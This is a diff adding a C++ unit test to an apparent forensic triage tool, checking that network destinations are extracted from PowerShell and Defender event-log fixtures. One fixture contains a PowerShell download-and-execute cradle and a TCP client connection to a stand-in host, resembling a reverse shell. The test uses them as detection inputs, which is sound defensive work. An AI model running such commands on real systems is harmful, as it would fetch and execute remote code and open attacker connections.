@@ -7,6 +7,7 @@
 #include <sstream>
 
 #include "../test_util.hpp"
+#include "triage/netlog_stage.hpp"
 #include "triage/triage.hpp"
 
 TEST_CASE("triage --netlog joins the PC's lines of a network log to its timeline and findings") {
@@ -62,4 +63,20 @@ TEST_CASE("triage --netlog joins the PC's lines of a network log to its timeline
   CHECK(findings.find("KK-NET-003") != std::string::npos);
   CHECK(findings.find("198.51.100.7") != std::string::npos);
   CHECK(findings.find("KK-NET-005") != std::string::npos);  // 151.101.0.133: Sysmon saw it too
+}
+
+TEST_CASE("destinations the PC's evidence names: PowerShell script blocks and Defender paths") {
+  kk::triage::OwnAddresses own;
+  simdjson::dom::parser p;
+  auto see = [&](const std::string& json) { own.observe(p.parse(json).value()); };
+  see(R"J({"artifact":"evtx","event_id":4104,"channel":"Microsoft-Windows-PowerShell/Operational",
+"data":{"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://Cradle.example.com/a.ps1'); New-Object Net.Sockets.TCPClient('203.0.113.9',443)"}})J");
+  see(R"J({"artifact":"evtx","event_id":1116,"channel":"Microsoft-Windows-Windows Defender/Operational",
+"data":{"Path":"file:_C:\\x.exe;webfile:_C:\\x.exe|https://dl.example.net/x.exe|pid:1",
+"FWLink":"https://go.microsoft.com/fwlink/?linkid=37020"}})J");
+  // Another channel's 4104 (not PowerShell) names nothing.
+  see(R"J({"artifact":"evtx","event_id":4104,"channel":"Other",
+"data":{"ScriptBlockText":"http://not.example.org/"}})J");
+  CHECK(own.destinations() ==
+        std::vector<std::string>{"203.0.113.9", "cradle.example.com", "dl.example.net"});
 }
